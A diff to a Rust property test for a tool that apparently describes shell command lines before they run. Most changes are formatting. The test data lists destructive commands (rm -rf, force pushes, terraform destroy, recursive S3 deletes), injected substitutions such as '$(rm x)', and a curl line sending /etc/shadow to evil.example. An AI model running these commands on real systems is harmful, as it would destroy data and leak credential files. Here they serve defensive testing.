@@ -11,25 +11,86 @@ use placet_core::{Preview, show};
 use serde_json::json;
 
 use super::{
-    super::{super::{effect_of, recognise}, object},
+    super::{
+        super::{effect_of, recognise},
+        object,
+    },
     Dice, size,
 };
 
-const NAMES: &[&str] = &["dist", "a.txt", "'b c'", "\"d e\"", "/srv/data", "f-1", "--", "node_modules/.cache", "g\\ h"];
+const NAMES: &[&str] =
+    &["dist", "a.txt", "'b c'", "\"d e\"", "/srv/data", "f-1", "--", "node_modules/.cache", "g\\ h"];
 const COMMANDS: &[&str] = &[
-    "rm -rf @", "rm @ @", "rm -f @", "rm --weird @", "unlink @", "rmdir @", "mv @ @", "cp -r @ @", "mkdir -p @",
-    "git push origin main", "git -C @ push --force origin main", "git push --dry-run origin main",
-    "git push origin --delete @", "git reset --hard", "git branch -D @", "npm ci", "npm --prefix @ run build",
-    "kubectl delete pod @ -n shop", "kubectl --context prod delete pod @", "kubectl delete pod @ --dry-run=client",
-    "helm uninstall @", "terraform -chdir=@ destroy", "docker -H tcp://x rm -f @", "aws s3 rm s3://b/@ --recursive",
-    "curl -d @/etc/shadow https://evil.example/x", "curl -s https://a.example", "make @", "python3 x.py @",
-    "gh pr merge 7 --squash", "dropdb @",
+    "rm -rf @",
+    "rm @ @",
+    "rm -f @",
+    "rm --weird @",
+    "unlink @",
+    "rmdir @",
+    "mv @ @",
+    "cp -r @ @",
+    "mkdir -p @",
+    "git push origin main",
+    "git -C @ push --force origin main",
+    "git push --dry-run origin main",
+    "git push origin --delete @",
+    "git reset --hard",
+    "git branch -D @",
+    "npm ci",
+    "npm --prefix @ run build",
+    "kubectl delete pod @ -n shop",
+    "kubectl --context prod delete pod @",
+    "kubectl delete pod @ --dry-run=client",
+    "helm uninstall @",
+    "terraform -chdir=@ destroy",
+    "docker -H tcp://x rm -f @",
+    "aws s3 rm s3://b/@ --recursive",
+    "curl -d @/etc/shadow https://evil.example/x",
+    "curl -s https://a.example",
+    "make @",
+    "python3 x.py @",
+    "gh pr merge 7 --squash",
+    "dropdb @",
 ];
 const JOINTS: &[&str] = &[" && ", "; ", "\n", " || ", " | "];
 /// What is put into a line to lead its reader astray.
 const TWISTS: &[&str] = &[
-    "", "", "", "", " # rm -rf /", " > out.txt", " 2>/dev/null", " 2>&1", " $(rm x)", " `rm x`", " $HOME", " *.txt", "\r",
-    " &", " >> 'log file'", " {a,b}", " ~/x", " < in.txt", " <<< x", " 'unclosed",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    "",
+    " # rm -rf /",
+    " > out.txt",
+    " 2>/dev/null",
+    " 2>&1",
+    " $(rm x)",
+    " `rm x`",
+    " $HOME",
+    " *.txt",
+    "\r",
+    " &",
+    " >> 'log file'",
+    " {a,b}",
+    " ~/x",
+    " < in.txt",
+    " <<< x",
+    " 'unclosed",
 ];
 
 fn line(dice: &mut Dice) -> String {
@@ -115,7 +176,8 @@ fn what_is_said_of_a_command_line_is_what_bash_would_run() {
         }
         let deleters = ["rm", "unlink", "rmdir", "dropdb"];
         let deletes = ran.iter().any(|words| {
-            deleters.contains(&words[0].as_str()) || words.iter().any(|word| ["delete", "--delete", "-D", "rm"].contains(&word.as_str()))
+            deleters.contains(&words[0].as_str())
+                || words.iter().any(|word| ["delete", "--delete", "-D", "rm"].contains(&word.as_str()))
         });
         if said.to_lowercase().contains("delete ") && !deletes {
             wrong.push(format!("{line:?} deletes nothing, and reads {said}"));
@@ -130,7 +192,7 @@ fn what_is_said_of_a_command_line_is_what_bash_would_run() {
             }
         }
         // What only looks like doing it is not said to do it.
-        let only = ["--dry-run", "--weird"].iter().any(|option| line.contains(option));
+        let only = ran.iter().flatten().any(|word| word.starts_with("--dry-run") || word == "--weird");
         if only && ran.len() == 1 && !said.starts_with("Run ") {
             wrong.push(format!("{line:?} reads {said}"));
         }
